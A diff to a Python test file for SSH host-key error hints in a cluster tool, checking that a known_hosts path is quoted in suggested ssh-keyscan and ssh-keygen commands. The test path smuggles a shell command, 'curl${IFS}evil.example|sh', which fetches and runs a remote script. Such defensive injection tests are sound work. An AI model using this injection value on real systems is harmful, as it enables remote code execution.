@@ -152,23 +152,26 @@ def test_a_python_path_in_a_hint_is_quoted_for_copy_and_paste():
                                "-m pip install tensorflow`, or set `python:` in the spec")
 
 
-def test_known_hosts_paths_in_ssh_hints_are_quoted(monkeypatch):
-    from tfcluster.transport import ssh_connect
+def test_known_hosts_paths_in_ssh_hints_are_quoted(tmp_path):
+    import dataclasses
+
+    from tfcluster.transport import known_hosts
     from tfcluster.transport.ssh_config import Endpoint
 
-    evil = "/tmp/kh;curl${IFS}evil.example|sh"
-    ep = Endpoint(name="gpu0", address="10.0.0.1", port=22, user="u", key_files=(), look_for_keys=True,
-                  known_hosts=(evil,), policy="reject", timeout=5.0, jump=None)
-    key = SimpleNamespace(get_name=lambda: "ssh-ed25519", fingerprint="SHA256:abc")
+    evil = str(tmp_path / "kh;curl${IFS}evil.example|sh")
+    fields = {f.name for f in dataclasses.fields(Endpoint)}
+    values = dict(name="gpu0", address="10.0.0.1", port=22, user="u", key_files=(), look_for_keys=True,
+                  known_hosts=(evil,), policy="reject", timeout=5.0, jump=None, global_known_hosts=())
+    ep = Endpoint(**{k: v for k, v in values.items() if k in fields})
+    new_key = SimpleNamespace(get_name=lambda: "ssh-ed25519", asbytes=lambda: b"new-key")
     with pytest.raises(Exception) as info:
-        ssh_connect._HostKeyPolicy(ep).missing_host_key(None, "10.0.0.1", key)
+        known_hosts.HostKeyPolicy(ep, known_hosts.KnownHosts(ep)).missing_host_key(None, "10.0.0.1", new_key)
     assert info.value.hint.startswith(f"run `ssh-keyscan -p 22 10.0.0.1 >> '{evil}'` after checking")
-    home = SimpleNamespace(fingerprint="SHA256:new", get_name=lambda: "ssh-ed25519")
-    paramiko = pytest.importorskip("paramiko")
-    changed = paramiko.BadHostKeyException("10.0.0.1", home, SimpleNamespace(fingerprint="SHA256:old",
-                                                                            get_base64=lambda: "b"))
-    hint = ssh_connect._map_handshake_error(ep, changed, 0.1).hint
-    assert hint.endswith(f"`ssh-keygen -R 10.0.0.1 -f '{evil}'`")
+    known_hosts.append(evil, ep.key_name, "ssh-ed25519", b"old-key")      # now the host is known
+    with pytest.raises(Exception) as info:
+        known_hosts.HostKeyPolicy(ep, known_hosts.KnownHosts(ep)).missing_host_key(None, "10.0.0.1", new_key)
+    assert "CHANGED" in info.value.message
+    assert info.value.hint.endswith(f"`ssh-keygen -R 10.0.0.1 -f '{evil}'`")
 
 
 # ------------------------------------------------------------------ review I3: logs
